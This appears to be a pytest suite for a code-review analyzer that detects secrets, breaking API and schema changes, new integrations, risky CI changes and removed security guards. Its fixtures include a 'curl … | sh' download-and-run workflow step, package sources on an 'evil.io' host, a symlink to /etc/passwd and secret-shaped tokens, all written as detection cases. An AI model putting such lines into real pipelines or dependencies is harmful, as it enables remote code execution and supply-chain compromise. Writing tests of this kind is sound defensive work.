"""One positive and one negative at least for each further analyzer, on real little trees."""

from __future__ import annotations

import json
import re

import msgspec
import pytest

from greenlane.analyzers import files, worker
from greenlane.domain.findings import Severity

ORDER = list(Severity)


def found(name: str, review, least: Severity = Severity.MEDIUM) -> list[str]:
    result = worker.run(name, review)
    return [f.rule for f in result.findings if ORDER.index(f.severity) >= ORDER.index(least)]


def skipped(name: str, review) -> dict[str, str]:
    return {s.path: s.reason for s in worker.run(name, review).skipped}


# ------------------------------------------------------------------ reading


@pytest.mark.parametrize(
    ("path", "content", "reason"),
    [
        ("app/a.py", "def f(:\n", "syntax error"),
        ("app/a.py", "class A[T = int]: ...\n", "syntax error"),
        ("app/a.py", "# coding: utf-7\nx = 1\n", "declares the encoding"),
        ("app/a.py", "x = " + "(" * 250 + ")" * 250 + "\n", "syntax error"),
        ("app/a.py", "x = " + "-" * 5000 + "1\n", "nested deeper|can't be parsed"),
        ("app/a.py", "x = '" + "a" * (2 << 20) + "'\n", "larger than"),
        ("app/a.go", "package main\n", "no analyzer reads"),
        ("bin/run", "#!/usr/bin/perl\nunlink;\n", "no analyzer reads"),
        ("app/x.pth", "import os\n", "no analyzer reads"),
        ("app/a.py", b"x = '\xe9\xff'\n", "binary|UTF-8"),
        ("app/blob.bin", b"\x00\x01", "binary"),
    ],
)
def test_what_cannot_be_judged_is_named(make_review, path, content, reason) -> None:
    gaps = skipped("reading", make_review({}, {path: content}))
    assert list(gaps) == [path]
    assert re.search(reason, gaps[path])


def test_documents_data_and_served_images_are_no_gaps(make_review) -> None:
    head = {
        "README.md": "x", "data.json": "{}", "page.html": "<p>", "style.css": "p {}", "docs/logo.png": b"\x89PNG",
        "app/locale/de/LC_MESSAGES/app.mo": b"\xde",
        "app/a.py": "x = 1\n", "LICENSE": "free",
    }  # fmt: skip
    assert skipped("reading", make_review({}, head)) == {}


def test_a_link_out_of_the_tree_is_not_followed(make_review, tmp_path) -> None:
    review = make_review({}, {"a.py": "x = 1\n"})
    (tmp_path / "head" / "a.py").unlink()
    (tmp_path / "head" / "a.py").symlink_to("/etc/passwd")
    assert skipped("reading", review) == {"a.py": "it is a symbolic link"}


# ------------------------------------------------------------------ secrets

GITHUB_TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
STRIPE_KEY = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("app/a.py", f'TOKEN = "{GITHUB_TOKEN}"'),
        ("app/a.py", f'key = "{STRIPE_KEY}"  # pragma: allowlist secret'),
        ("app/a.py", 'db_password = "9f$Kq2!mZx81"'),
        ("app/a.py", 'url = "postgres://app:s3cr3tPw9@db.prod.acme.io/x"'),
        (".env", "API_KEY=9fKq2mZx81LpQw77"),
        ("tests/test_a.py", f'TOKEN = "{GITHUB_TOKEN}"'),
        ("README.md", f"use {GITHUB_TOKEN}"),
        ("key.pem", "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA04up8hoqzS1n6Z0k\n"),
    ],
)
def test_a_secret_is_found_and_never_shown(make_review, path, text) -> None:
    review = make_review({}, {path: text + "\n"})
    findings = [f for f in worker.run("secrets", review).findings if f.severity in (Severity.HIGH, Severity.CRITICAL)]
    assert [f.path for f in findings] == [path]
    for secret in (GITHUB_TOKEN, STRIPE_KEY, "9f$Kq2!mZx81", "s3cr3tPw9", "9fKq2mZx81LpQw77", "MIIEpA"):
        assert secret not in str(findings)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("app/a.py", 'digest = "9b74c9897bac770ffc029102a200c5de9b74c9897bac770f"'),
        ("app/a.py", 'id = "123e4567-e89b-12d3-a456-426614174000"'),
        ("app/a.py", 'PASSWORD_FIELD = "password_hash"'),
        ("app/a.py", 'token = request.headers["X-Auth-Token"]'),
        ("app/a.py", 'API_KEY = os.environ["API_KEY"]'),
        ("app/a.py", 'csrf_token_name = "X-CSRF-Token-2"'),
        ("app/a.py", 'aws = "AKIAIOSFODNN7EXAMPLE"'),
        ("app/a.py", 'url = "postgres://postgres:postgres@localhost/x"'),
        ("app/a.py", 'if "BEGIN PRIVATE KEY" in text: pass'),
        ("tests/test_a.py", 'password = "9f$Kq2!mZx81"'),
        ("poetry.lock", 'hash = "sha256:9b74c9897bac770ffc029102a200c5de9b74c9897bac770f"'),
        ("app/a.py", 'TOKEN_URL = "https://auth.acme.io/oauth/token"'),
    ],
)
def test_what_only_looks_like_a_secret_is_not_one(make_review, path, text) -> None:
    assert found("secrets", make_review({}, {path: text + "\n"})) == []


# ------------------------------------------------------------------ api

CONTRACT = {
    "openapi": "3.0.0",
    "paths": {
        "/items/{id}": {
            "get": {
                "parameters": [{"in": "query", "name": "lang", "required": False}],
                "responses": {
                    "200": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/Item"}}}}
                },
            },
            "put": {
                "requestBody": {"content": {"application/json": {"schema": {"type": "object", "required": ["name"]}}}},
                "responses": {"204": {}},
            },
        }
    },
    "components": {
        "schemas": {
            "Item": {
                "type": "object",
                "required": ["id"],
                "properties": {"id": {"type": "integer"}, "price": {"type": "number"}},
            }
        }
    },
}


def edited(old: str, new: str) -> str:
    text = json.dumps(CONTRACT, indent=1)
    assert old in text
    return text.replace(old, new)


@pytest.mark.parametrize(
    ("old", "new", "rules"),
    [
        ('"price"', '"cost"', ["openapi.response-property-removed"]),
        ('"type": "number"', '"type": "string"', ["openapi.type-changed"]),
        ('"/items/{id}"', '"/products/{id}"', ["openapi.path-removed"]),
        ('"put"', '"patch"', ["openapi.operation-removed"]),
        ('"required": false', '"required": true', ["openapi.parameter-required"]),
        ('"name"\n', '"name", "sku"\n', ["openapi.request-property-required"]),
        ('"id"\n', "", ["openapi.response-property-optional"]),
        # widening what may be sent and adding to what is returned breaks nobody
        ('"/items/{id}"', '"/items/{item_id}"', []),
        ('"price": {', '"stock": {"type": "integer"}, "price": {', []),
        ('"openapi": "3.0.0"', '"openapi": "3.0.1"', []),
    ],
)
def test_the_http_contract_breaks_only_in_the_direction_that_hurts(make_review, old, new, rules) -> None:
    review = make_review({"openapi.json": json.dumps(CONTRACT, indent=1)}, {"openapi.json": edited(old, new)})
    assert found("api", review, Severity.HIGH) == rules


def test_a_contract_that_cannot_be_read_any_more_is_a_gap(make_review) -> None:
    review = make_review({"openapi.json": json.dumps(CONTRACT)}, {"openapi.json": "{"})
    assert list(skipped("api", review)) == ["openapi.json"]


def test_a_route_that_is_gone_breaks_and_one_that_moves_does_not(make_review) -> None:
    base = {"app/a.py": '@app.get("/a")\ndef a(): ...\n\n\n@app.get("/b")\ndef b(): ...\n', "app/b.py": "x = 1\n"}
    moved = {"app/a.py": '@app.get("/a")\ndef a(): ...\n', "app/b.py": '@bp.get("/b")\ndef other(): ...\n'}
    assert found("api", make_review(base, moved), Severity.HIGH) == []
    gone = {"app/a.py": '@app.get("/a")\ndef a(): ...\n', "app/b.py": "x = 1\n"}
    assert found("api", make_review(base, gone), Severity.HIGH) == ["greenlane.route-removed"]


LIBRARY = {
    "lib/__init__.py": "from lib.m import f\n__version__ = '1'\n",
    "lib/m.py": "import sys\ndef f(a, b=1):\n    return a\ndef g():\n    return 1\ndef _h():\n    return 1\n",
}


@pytest.mark.parametrize(
    ("old", "new", "breaks"),
    [
        ("def f(a, b=1)", "def f(a)", True),
        ("def f(a, b=1)", "def f(a, b)", True),
        ("def g()", "def gg()", True),
        ("def f(a, b=1)", "def f(a, b=1, c=2)", False),
        ("def _h()", "def _i()", False),
        ("import sys\n", "", False),
        ("return 1", "return 2", False),
    ],
)
def test_names_of_a_library_are_a_contract_and_those_of_a_service_are_not(make_review, old, new, breaks) -> None:
    head = {**LIBRARY, "lib/m.py": LIBRARY["lib/m.py"].replace(old, new)}
    assert bool(found("api", make_review(LIBRARY, head, deployed=False), Severity.HIGH)) is breaks
    assert found("api", make_review(LIBRARY, head, deployed=True), Severity.LOW) == []


# ------------------------------------------------------------------ schema


@pytest.mark.parametrize(
    ("path", "text", "rule", "severity"),
    [
        ("migrations/2.sql", "ALTER TABLE t ADD COLUMN x INTEGER;", "schema.add-column", "low"),
        ("migrations/2.sql", "ALTER TABLE t ADD COLUMN x TEXT NOT NULL;", "schema.add-not-null", "high"),
        ("migrations/2.sql", "ALTER TABLE t ADD COLUMN x TEXT NOT NULL DEFAULT '';", "schema.add-column", "low"),
        ("migrations/2.sql", "ALTER TABLE t DROP COLUMN x;", "schema.drop-column", "high"),
        ("migrations/2.sql", "DROP TABLE t;", "schema.drop-table", "high"),
        ("migrations/2.sql", "ALTER TABLE t RENAME TO u;", "schema.rename", "high"),
        ("migrations/2.sql", "ALTER TABLE t ALTER COLUMN x TYPE bigint;", "schema.alter-column", "medium"),
        ("db/schema.sql", "-- new\nCREATE TABLE t (id INT);", "schema.create-table", "low"),
        ("app/store.py", 'c.execute("CREATE TABLE t (id INT)")\n', "schema.create-table", "low"),
        ("app/store.py", 'STEPS = ["DROP TABLE t"]\n', "schema.drop-table", "high"),
        (
            "alembic/versions/a.py",
            "from alembic import op\n\n\ndef upgrade():\n    op.drop_column('t', 'x')\n",
            "schema.drop-column",
            "high",
        ),
        (
            "alembic/versions/a.py",
            "def upgrade():\n    op.create_table('t')\n\n\ndef downgrade():\n    op.drop_table('t')\n",
            "schema.create-table",
            "low",
        ),
        ("shop/migrations/0002_x.py", "x = [migrations.RemoveField('a', 'b')]\n", "schema.remove-field", "high"),
        (
            "shop/migrations/0002_x.py",
            "x = [migrations.AddField('a', 'b', field=models.IntegerField(null=True))]\n",
            "schema.add-field",
            "low",
        ),
        ("shop/migrations/0002_x.py", "x = 1\n", "schema.migration", "low"),
        ("shop/migrations/0002_x.py", "def f(:\n", "schema.migration", "low"),
    ],
)
def test_a_schema_change_is_recognised_with_its_danger(make_review, path, text, rule, severity) -> None:
    findings = worker.run("schema", make_review({}, {path: text})).findings
    assert [(f.rule, f.severity) for f in findings] == [(rule, Severity(severity))]


def test_no_schema_change_where_none_is(make_review) -> None:
    base = {"app/store.py": 'SQL = "CREATE TABLE t (id INT)"\n', "app/migrations/__init__.py": ""}
    head = {
        "app/store.py": 'import os\n\nSQL = """\n  CREATE TABLE t\n  (id INT)"""\n',
        "app/doc.py": '"""CREATE TABLE is what this never does."""\nx = "drop tables like that"\n',
        "tests/test_m.py": 'c.execute("CREATE TABLE t (id INT)")\n',
        "app/migrations/__init__.py": "# a package\n",
        "q.sql": "SELECT 1; INSERT INTO t VALUES (1);",
    }
    assert found("schema", make_review(base, head), Severity.INFO) == []


# ------------------------------------------------------------------ integrations


@pytest.mark.parametrize(
    ("head", "rules"),
    [
        ({"requirements.txt": "httpx==2\nstripe==1\n"}, ["integrations.new-distribution"]),
        ({"requirements.txt": "httpx @ https://evil.io/httpx.whl\n"}, ["integrations.source-changed"]),
        ({"requirements.txt": "--extra-index-url https://evil.io/simple\nhttpx==1\n"}, ["integrations.new-index"]),
        ({"app/b.py": "import stripe\n"}, ["integrations.new-import"]),
        ({"app/b.py": 'URL = "https://api.stripe.com/v1"\n'}, ["integrations.new-host"]),
        ({"app/b.py": 'u = f"https://api.stripe.com/{x}"\n'}, ["integrations.new-host"]),
        ({"app/b.py": 'c = HTTPSConnection("api.stripe.com")\n'}, ["integrations.new-host"]),
        ({"app/b.py": 'k = os.environ["STRIPE_API_KEY"]\n'}, ["integrations.new-credential"]),
        ({".env.example": "URL=https://api.stripe.com/v1\n"}, ["integrations.new-host"]),
        # harmless
        ({"requirements.txt": "httpx==2\n"}, []),
        ({"requirements-dev.txt": "pytest-cov\n"}, []),
        ({"pyproject.toml": '[dependency-groups]\ndev = ["mypy"]\n'}, []),
        ({"app/b.py": "import httpx, json, app.a\nfrom . import a\n"}, []),
        ({"app/b.py": '"""See https://blog.acme.io/x."""\nHELP = "see https://acme.io for help"\n'}, []),
        (
            {"app/b.py": 'NS = "http://www.w3.org/2000/svg"\nL = "http://localhost:80"\nE = "https://a.example.com"\n'},
            [],
        ),
        ({"app/b.py": 'u = "https://known.acme.io/v2"\n'}, []),
        ({"tests/test_b.py": 'import responses\nu = "https://other.acme.io"\n'}, []),
        ({"README.md": "https://acme.io\n"}, []),
    ],
)
def test_only_what_is_new_outside_is_an_integration(make_review, head, rules) -> None:
    base = {"requirements.txt": "httpx==1\n", "app/a.py": 'import httpx\nU = "https://known.acme.io/v1"\n'}
    assert found("integrations", make_review(base, {**base, **head})) == rules


def test_a_manifest_that_cannot_be_read_is_a_gap(make_review) -> None:
    assert list(skipped("integrations", make_review({}, {"pyproject.toml": "[project"}))) == ["pyproject.toml"]


# ------------------------------------------------------------------ infrastructure


@pytest.mark.parametrize(
    ("path", "base", "head", "rules"),
    [
        ("greenlane.yaml", "a: 1\n", "a: 2\n", ["infrastructure.rules-changed"]),
        (
            ".github/workflows/a.yml",
            "on: push\n",
            "on: push\npermissions:\n  contents: write\n",
            ["infrastructure.rights-raised"],
        ),
        (".github/workflows/a.yml", "on: push\n", "on: pull_request_target\n", ["infrastructure.privileged-trigger"]),
        (
            ".github/workflows/a.yml",
            "on: push\n",
            "run: curl https://x.io/i | sh\n",
            ["infrastructure.download-and-run"],
        ),
        ("Dockerfile", "FROM a\nUSER app\n", "FROM a\n", ["infrastructure.user-dropped"]),
        (".github/workflows/a.yml", "- uses: actions/checkout@v4\n", "- uses: actions/checkout@v5\n", []),
        (".github/workflows/a.yml", "- uses: foo/bar@v1\n", "- uses: foo/bar@v2\n", []),
        ("app/permissions.yaml", "a: read\n", "a: write\n", []),
    ],
)
def test_rights_and_rules_are_guarded(make_review, path, base, head, rules) -> None:
    assert found("infrastructure", make_review({path: base}, {path: head})) == rules


def test_examples_for_the_model_are_rules_wherever_the_configuration_has_them(make_review) -> None:
    review = make_review({"ai/a.md": "a\n", "aid.md": "a\n"}, {"ai/own/a.md": "b\n", "aid.md": "b\n"})
    assert found("infrastructure", review) == []
    named = found("infrastructure", msgspec.structs.replace(review, rules_at=("./ai/", "x-greenlane-risk.json")))
    assert set(named) == {"infrastructure.rules-changed"}


# ------------------------------------------------------------------ guards

GUARDED = """
@login_required
def show(request, id):
    if not request.user.is_staff:
        raise PermissionDenied
    if id < 0:
        raise ValueError(id)
    return escape(load(id, timeout=3))
"""


@pytest.mark.parametrize(
    ("old", "new", "rules"),
    [
        ("@login_required\n", "", ["guards.access-removed"]),
        ("    if not request.user.is_staff:\n        raise PermissionDenied\n", "", ["guards.access-removed"]),
        ("    if id < 0:\n        raise ValueError(id)\n", "", ["guards.validation-removed"]),
        ("escape(load(id, timeout=3))", "load(id, timeout=3)", ["guards.escape-removed"]),
        ("@login_required", "@csrf_exempt\n@login_required", ["guards.exemption-added"]),
        # rewritten, renamed, moved into a helper: still guarded
        ("request.user.is_staff", 'request.user.has_perm("show")', []),
        ("    if not request.user.is_staff:\n        raise PermissionDenied\n", "    require_admin(request)\n", []),
        ("@login_required", '@permission_required("show")', []),
        ("if id < 0:", "if id <= 0:", []),
        ("escape(load", "html.escape(load", []),
    ],
)
def test_a_guard_that_is_gone_is_found_and_one_that_changed_is_not(make_review, old, new, rules) -> None:
    assert old in GUARDED
    review = make_review({"app/v.py": GUARDED}, {"app/v.py": GUARDED.replace(old, new)})
    assert found("guards", review) == rules


def test_removed_middleware_is_a_removed_guard(make_review) -> None:
    base = 'MIDDLEWARE = [\n    "django.middleware.csrf.CsrfViewMiddleware",\n    "a.b.CommonMiddleware",\n]\n'
    head = 'MIDDLEWARE = [\n    "a.b.CommonMiddleware",\n]\n'
    review = make_review({"app/settings.py": base}, {"app/settings.py": head})
    assert found("guards", review) == ["guards.access-removed"]


def test_a_check_that_moves_to_another_function_is_not_lost(make_review) -> None:
    base = "def a(x):\n    if x < 0:\n        raise ValueError(x)\n    return x\n"
    head = "def a(x):\n    return b(x)\n\n\ndef b(x):\n    if x < 0:\n        raise ValueError(x)\n    return x\n"
    assert found("guards", make_review({"app/v.py": base}, {"app/v.py": head})) == []


OVERRIDE = """
class A(dict):
    def get(self, k): ...
    def own(self): ...

class B:
    def x(self): ...
"""


def test_an_override_whose_base_class_is_elsewhere_may_go(make_review) -> None:
    head = OVERRIDE.replace("    def get(self, k): ...\n", "").replace("def x", "def y")
    review = make_review({"lib/__init__.py": OVERRIDE}, {"lib/__init__.py": head}, deployed=False)
    broken = [f.message for f in worker.run("api", review).findings if f.severity is Severity.HIGH]
    assert broken == ["lib.B.x: public object was removed (as it stood at the base)"]


def test_a_file_whose_tree_would_fill_the_memory_is_a_gap(make_review) -> None:
    dense = "x = [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" * 20_000
    result = worker.run("reading", make_review({}, {"app/table.py": dense}))
    assert [(s.path, "names, numbers" in s.reason) for s in result.skipped] == [("app/table.py", True)]


def test_of_large_files_no_more_trees_are_held_than_both_sides_of_one(make_review) -> None:
    large = "x = [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" * 7_000
    worker.run("reading", make_review({}, {f"app/m{n}.py": large for n in range(4)}))
    assert len(files.PythonFile._held) <= 2
